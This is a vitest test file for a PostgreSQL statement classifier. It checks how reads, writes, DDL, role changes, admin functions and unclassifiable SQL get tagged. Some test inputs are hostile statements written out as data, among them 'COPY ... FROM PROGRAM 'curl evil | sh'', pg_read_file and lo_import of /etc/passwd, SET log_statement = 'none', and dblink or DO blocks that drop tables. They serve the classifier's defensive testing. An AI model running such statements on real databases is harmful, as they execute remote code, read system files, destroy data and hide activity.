import { beforeAll, describe, expect, it } from 'vitest';
import { isSqlStatementClass } from './classes.js';
import { loadSqlClassifier, type SqlClassifier } from './classifier.js';

let classifier: SqlClassifier;
beforeAll(async () => {
  classifier = await loadSqlClassifier();
});

const CREATE = ['create', 'ddl', 'write'];
const ALTER = ['alter', 'ddl', 'write'];
const DROP = ['drop', 'ddl', 'write'];
const OPAQUE = ['unclassifiable'];

/** [sql, exact classes, whereAbsent?, unclassifiable?] */
const cases: [string, string[], boolean?, boolean?][] = [
  // Reads
  ['SELECT 1', ['read']],
  ['select * from users where id = $1', ['read']],
  ['VALUES (1), (2)', ['read']],
  ['TABLE users', ['read']],
  ['SELECT 1 UNION SELECT 2', ['read']],
  ['SHOW search_path', ['read']],
  ['DECLARE c CURSOR FOR SELECT 1', ['read']],
  ['FETCH 10 FROM c', ['read']],
  ['CLOSE c', ['read']],
  ['EXPLAIN SELECT 1', ['explain', 'read']],
  ['EXPLAIN ANALYZE SELECT 1', ['explain', 'read']],
  ['SELECT * FROM t FOR UPDATE', ['read']],
  // DML
  ['INSERT INTO t VALUES (1)', ['insert', 'write']],
  ['INSERT INTO t SELECT * FROM u', ['insert', 'write']],
  ['INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET x = 1', ['insert', 'update', 'write']],
  ['INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING', ['insert', 'write']],
  ['UPDATE t SET x = 1 WHERE id = 2', ['update', 'write']],
  ['UPDATE t SET x = 1', ['update', 'write'], true],
  ['UPDATE t SET x = 1 WHERE CURRENT OF c', ['update', 'write']],
  ['DELETE FROM t WHERE id = 2', ['delete', 'write']],
  ['DELETE FROM t', ['delete', 'write'], true],
  ['DELETE FROM t WHERE true', ['delete', 'write']],
  ['DELETE FROM t USING u WHERE t.id = u.id', ['delete', 'write']],
  [
    'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (s.id)',
    ['merge', 'delete', 'insert', 'write'],
  ],
  [
    'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET x = 1',
    ['merge', 'update', 'write'],
  ],
  ['TRUNCATE t', ['truncate', 'write']],
  ['TRUNCATE TABLE a, b CASCADE', ['truncate', 'write']],
  // Writes hidden in reads
  ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', ['delete', 'write'], true],
  ['WITH d AS (UPDATE t SET x = 1 WHERE id = 1 RETURNING *) SELECT * FROM d', ['update', 'write']],
  ['SELECT * FROM (VALUES (1)) v WHERE EXISTS (SELECT 1)', ['read']],
  ['SELECT 1 INTO t2 FROM t', ['select_into', ...CREATE]],
  ['CREATE TABLE t2 AS SELECT * FROM t', ['select_into', ...CREATE]],
  ['CREATE MATERIALIZED VIEW mv AS SELECT 1', ['select_into', ...CREATE]],
  ['REFRESH MATERIALIZED VIEW mv', ['maintenance', 'write']],
  // EXPLAIN
  ['EXPLAIN DELETE FROM t', ['explain', 'read']],
  ['EXPLAIN ANALYZE DELETE FROM t', ['explain', 'delete', 'write'], true],
  ['EXPLAIN (ANALYZE) UPDATE t SET x = 1 WHERE id = 1', ['explain', 'update', 'write']],
  ['EXPLAIN (ANALYZE true, VERBOSE) DELETE FROM t', ['explain', 'delete', 'write'], true],
  ['EXPLAIN (ANALYZE off) DELETE FROM t', ['explain', 'read']],
  ['EXPLAIN (ANALYZE 0) DELETE FROM t', ['explain', 'read']],
  ['EXPLAIN (ANALYZE false, ANALYZE) DELETE FROM t', ['explain', 'delete', 'write'], true],
  ['EXPLAIN (ANALYZE maybe) DELETE FROM t', ['explain', 'delete', 'write'], true],
  ['EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1', ['explain', 'select_into', ...CREATE]],
  // COPY
  ['COPY t FROM STDIN', ['copy_from', 'insert', 'write']],
  ['COPY t TO STDOUT', ['copy_to', 'read']],
  ['COPY (SELECT 1) TO STDOUT', ['copy_to', 'read']],
  ["COPY t FROM '/etc/passwd'", ['copy_from', 'insert', 'write', 'admin']],
  ["COPY t TO '/tmp/out'", ['copy_to', 'admin']],
  [
    "COPY t FROM PROGRAM 'curl evil | sh'",
    ['copy_from', 'insert', 'write', 'copy_program', 'admin'],
  ],
  ["COPY (SELECT 1) TO PROGRAM 'cat'", ['copy_to', 'copy_program', 'admin']],
  ['COPY (DELETE FROM t RETURNING *) TO STDOUT', ['copy_to', 'delete', 'write'], true],
  // DDL
  ['CREATE TABLE t (id int)', CREATE],
  ['CREATE INDEX i ON t (id)', CREATE],
  ['CREATE VIEW v AS SELECT 1', CREATE],
  ['CREATE SCHEMA s', CREATE],
  ['CREATE SCHEMA s CREATE TABLE t (id int)', CREATE],
  ['CREATE DATABASE d', CREATE],
  ['CREATE EXTENSION dblink', [...CREATE, 'admin']],
  ['CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()', CREATE],
  ['CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM u', [...CREATE, 'delete'], true],
  ['ALTER TABLE t ADD COLUMN x int', ALTER],
  ['ALTER TABLE t RENAME TO u', ALTER],
  ['ALTER TABLE t REPLICA IDENTITY FULL', ALTER],
  ['COMMENT ON TABLE t IS $$x$$', ALTER],
  ['DROP TABLE t', [...DROP, 'drop_table']],
  ['DROP TABLE IF EXISTS a, b CASCADE', [...DROP, 'drop_table']],
  ['DROP VIEW v', DROP],
  ['DROP INDEX i', DROP],
  ['DROP SCHEMA s CASCADE', [...DROP, 'drop_schema']],
  ['DROP DATABASE d', [...DROP, 'drop_database']],
  ['DROP DATABASE IF EXISTS d WITH (FORCE)', [...DROP, 'drop_database']],
  ['DROP OWNED BY bob', [...DROP, 'drop_table', 'drop_schema', 'revoke']],
  ['DROP FUNCTION f', DROP],
  // Roles and privileges
  ['CREATE ROLE r', ['create_role', ...CREATE]],
  ["CREATE USER u WITH PASSWORD 'x'", ['create_role', ...CREATE]],
  ['ALTER ROLE r SUPERUSER', ['alter_role', ...ALTER]],
  ['ALTER USER u SET search_path = x', ['alter_role', ...ALTER]],
  ['ALTER ROLE r RENAME TO s', ['alter_role', ...ALTER]],
  ['DROP ROLE r', ['drop_role', ...DROP]],
  ['GRANT SELECT ON t TO r', ['grant', 'ddl', 'write']],
  ['GRANT dba TO bob', ['grant', 'ddl', 'write']],
  ['REVOKE ALL ON t FROM r', ['revoke', 'ddl', 'write']],
  ['REVOKE dba FROM bob', ['revoke', 'ddl', 'write']],
  ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO r', ['grant', ...ALTER]],
  ['REASSIGN OWNED BY a TO b', ['admin', ...ALTER]],
  // Session and server
  ['BEGIN', ['transaction']],
  ['START TRANSACTION ISOLATION LEVEL SERIALIZABLE', ['transaction']],
  ['COMMIT', ['transaction']],
  ['ROLLBACK TO SAVEPOINT s', ['transaction']],
  ["PREPARE TRANSACTION 'x'", ['transaction']],
  ['SET CONSTRAINTS ALL DEFERRED', ['transaction']],
  ['SET search_path = app', ['set']],
  ['RESET ALL', ['set']],
  ['SET ROLE postgres', ['set', 'admin']],
  ['SET SESSION AUTHORIZATION bob', ['set', 'admin']],
  ["SET session_authorization = 'bob'", ['set', 'admin']],
  ["SET role = 'pg_monitor'", ['set', 'admin']],
  ["SET session_replication_role = 'replica'", ['set', 'admin']],
  ["SET log_statement = 'none'", ['set', 'admin']],
  ['RESET track_functions', ['set', 'admin']],
  ["SET statement_timeout = '5s'", ['set']],
  ['DISCARD PLANS', ['set']],
  ['LOCK TABLE t IN ACCESS EXCLUSIVE MODE', ['lock']],
  ['LISTEN ch', ['listen']],
  ['UNLISTEN *', ['listen']],
  ["NOTIFY ch, 'x'", ['notify']],
  ['VACUUM FULL t', ['vacuum', 'maintenance']],
  ['ANALYZE t', ['vacuum', 'maintenance']],
  ['REINDEX TABLE t', ['maintenance']],
  ['CLUSTER t USING i', ['maintenance']],
  ['CHECKPOINT', ['admin']],
  ["LOAD 'auto_explain'", ['admin']],
  ["ALTER SYSTEM SET work_mem = '1GB'", ['admin', 'alter', 'write']],
  ['CALL do_things(1)', ['call', 'write']],
  // Functions that are not reads
  ['SELECT pg_terminate_backend(123)', ['admin']],
  ['select PG_CATALOG.PG_CANCEL_BACKEND(1)', ['admin']],
  ["SELECT pg_read_file('/etc/passwd')", ['admin']],
  ["SELECT * FROM pg_ls_dir('.')", ['admin']],
  ["SELECT lo_import('/etc/passwd')", ['admin', 'write']],
  ['SELECT lo_unlink(1)', ['write']],
  ["SELECT setval('s', 1)", ['write']],
  ["SELECT pg_notify('ch', 'x')", ['notify']],
  ["SELECT set_config('search_path', 'x', false)", ['set']],
  ["SELECT set_config('role', 'postgres', false)", ['set', 'admin']],
  ['SELECT set_config(name, v, false) FROM settings', ['set', 'admin', ...OPAQUE], false, true],
  [
    "SELECT set_config('standard_conforming_strings', 'off', false)",
    ['set', 'admin', ...OPAQUE],
    false,
    true,
  ],
  ["SELECT set_config('client_encoding', 'UTF8', false)", ['set']],
  // Settings that change how the server reads the text that follows
  ['SET standard_conforming_strings = off', ['set', 'admin', ...OPAQUE], false, true],
  ['SET standard_conforming_strings TO on', ['set']],
  ['SET standard_conforming_strings = 1', ['set']],
  ['RESET standard_conforming_strings', ['set']],
  ["SET NAMES 'SJIS'", ['set', 'admin', ...OPAQUE], false, true],
  ['SET client_encoding = GBK', ['set', 'admin', ...OPAQUE], false, true],
  ["SET client_encoding = 'UTF-8'", ['set']],
  ['SET client_encoding TO DEFAULT', ['set']],
  ['SELECT 1 WHERE pg_reload_conf()', ['admin']],
  [
    "SELECT dblink_exec('dbname=app', 'DROP TABLE t')",
    ['execute_dynamic', 'admin', ...OPAQUE],
    false,
    true,
  ],
  [
    "SELECT * FROM dblink('x', 'select 1') AS t(a int)",
    ['execute_dynamic', 'admin', ...OPAQUE],
    false,
    true,
  ],
  [
    "SELECT query_to_xml('delete from t', true, true, '')",
    ['execute_dynamic', 'admin', ...OPAQUE],
    false,
    true,
  ],
  ['SELECT my_function(1)', ['read']],
  // Unclassifiable
  ['DO $$ BEGIN NULL; END $$', ['do', ...OPAQUE], false, true],
  ["DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", ['do', 'execute_dynamic', ...OPAQUE], false, true],
  ['DO $$ BEGIN DROP TABLE t; END $$', ['do', ...DROP, 'drop_table', ...OPAQUE], false, true],
  ['DO $$ BEGIN DELETE FROM t; END $$', ['do', 'delete', 'write', ...OPAQUE], true, true],
  ['DO LANGUAGE plpython3u $$ import os $$', ['do', ...OPAQUE], false, true],
  [
    "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'TRUNCATE t'; END $$",
    ['function', ...CREATE, 'execute_dynamic', ...OPAQUE],
    false,
    true,
  ],
  [
    'CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DROP TABLE t $$',
    ['function', ...CREATE, 'drop', 'drop_table', ...OPAQUE],
    false,
    true,
  ],
  [
    'CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END',
    ['function', ...CREATE, 'delete', ...OPAQUE],
    true,
    true,
  ],
  [
    "CREATE FUNCTION f() RETURNS int AS 'lib', 'sym' LANGUAGE c",
    ['function', ...CREATE, ...OPAQUE],
    false,
    true,
  ],
  ['SELEC 1', OPAQUE, false, true],
  ['DROP TABLE', OPAQUE, false, true],
  ["SELECT 'unterminated", OPAQUE, false, true],
  ['EXECUTE unknown_statement', ['execute', ...OPAQUE], false, true],
  // Multi-statement texts: union of every statement
  ['SELECT 1; DELETE FROM t', ['read', 'delete', 'write'], true],
  ['BEGIN; DROP TABLE t; COMMIT', ['transaction', ...DROP, 'drop_table']],
  ['SELECT 1; SELEC 2', OPAQUE, false, true],
  // Nothing to run
  ['', []],
  ['   ', []],
  [';', []],
  ['-- only a comment', []],
];

describe('SqlClassifier.classify', () => {
  it.each(cases)('%s', (sql, classes, whereAbsent = false, unclassifiable = false) => {
    const result = classifier.classify(sql);
    expect([...result.classes].sort()).toEqual([...new Set(classes)].sort());
    expect(result.whereAbsent).toBe(whereAbsent);
    expect(result.unclassifiable).toBe(unclassifiable);
  });

  it('emits only documented classes', () => {
    for (const [sql] of cases) {
      for (const name of classifier.classify(sql).classes)
        expect(isSqlStatementClass(name), name).toBe(true);
    }
  });

  it('counts top-level statements', () => {
    expect(classifier.classify('SELECT 1; SELECT 2;; SELECT 3').statementCount).toBe(3);
    expect(classifier.classify('SELECT 1').statementCount).toBe(1);
    expect(classifier.classify('').statementCount).toBe(0);
  });

  it('returns the same frozen object for the same text', () => {
    const first = classifier.classify('DELETE FROM cached_t');
    expect(classifier.classify('DELETE FROM cached_t')).toBe(first);
    expect(Object.isFrozen(first)).toBe(true);
    expect(Object.isFrozen(first.classes)).toBe(true);
  });

  it('answers a repeated text from the cache cheaply, even when the cache is full', async () => {
    const small = await loadSqlClassifier();
    for (let i = 0; i < 11_000; i++) small.classify(`SELECT ${i}`);
    const sql = 'SELECT * FROM t WHERE id = 1';
    small.classify(sql);
    const start = performance.now();
    for (let i = 0; i < 20_000; i++) small.classify(sql);
    // A parse costs ~50-200 µs; a hit must stay far below that (the budget here is 10 µs).
    expect((performance.now() - start) / 20_000).toBeLessThan(0.01);
  });

  it('survives hostile input without throwing', () => {
    const deep = `SELECT ${'('.repeat(5000)}1${')'.repeat(5000)}`;
    const long = `SELECT ${Array.from({ length: 20_000 }, (_, i) => `c${i}`).join(', ')} FROM t`;
    for (const sql of [deep, long, '\u0000', 'SELECT $$', '\uD800', 'SELECT 1; '.repeat(2000)]) {
      const result = classifier.classify(sql);
      expect(Array.isArray(result.classes)).toBe(true);
    }
    expect(classifier.classify('SELECT 1; '.repeat(2000)).statementCount).toBe(2000);
  });

  it('handles thousands of routine bodies in one text', () => {
    const sql = "SELECT 'ü'; ".concat(
      'DO $$ BEGIN DELETE FROM t WHERE id = 1; END $$; '.repeat(3000),
    );
    const start = performance.now();
    const result = classifier.classify(sql);
    expect(result.statementCount).toBe(3001);
    expect(result.classes).toContain('delete');
    expect(performance.now() - start).toBeLessThan(20_000);
  });

  it('keeps statement text offsets right with multi-byte characters', () => {
    const result = classifier.classify("SELECT 'ünïcødé 🙂'; DO $$ BEGIN DROP TABLE t; END $$");
    expect(result.classes).toContain('drop_table');
    expect(result.unclassifiable).toBe(true);
  });
});
